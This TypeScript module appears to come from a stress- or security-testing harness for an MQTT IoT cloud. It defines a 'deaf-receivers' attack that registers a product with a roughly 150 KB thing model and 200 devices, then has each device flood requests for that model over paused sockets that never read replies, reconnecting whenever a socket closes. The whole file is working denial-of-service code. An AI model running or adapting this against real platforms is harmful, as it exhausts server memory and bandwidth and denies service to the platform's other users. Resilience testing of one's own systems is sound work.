/**
 * Devices that ask for a large thing model again and again, and never read.
 */
import { connectPacket } from "../../MqttPackets.ts"
import type { Attack } from "../Attack.ts"
import { flood, openSocket, publish } from "../../DeviceSocket.ts"

const devices = 200

const labels = Object.fromEntries(Array.from({ length: 10 }, (_, n) => [String(n), `Value number ${n}`]))

/** About 150 KB as TSL. */
const properties = Array.from({ length: 300 }, (_, i) => ({
  id: `property${i}`,
  name: `Property ${i}`,
  desc: "x".repeat(100),
  accessMode: "rw",
  dataType: { type: "enum", specs: labels }
}))

export const deafReceivers: Attack = {
  name: "deaf-receivers",
  prepare: async ({ address, cloud, count, tenant }) => {
    const product = await tenant.createProduct("Deaf", properties)
    const all = await tenant.createDevices(product, devices)
    return () => {
      for (const [i, device] of all.entries()) {
        const request = publish(
          device.topic.replace("event/property/post", "dsltemplate/get"),
          `{"id":"1","params":{}}`,
          1
        )
        const open = (): void => {
          const socket = openSocket(cloud.mqtt, address(i))
          socket.pause()
          socket.once("connect", () => {
            count("connections")
            socket.write(connectPacket(device))
            flood(socket, () => {
              count("requests sent")
              return request
            })
          })
          socket.once("close", () => setTimeout(open, 1000))
        }
        open()
      }
    }
  }
}
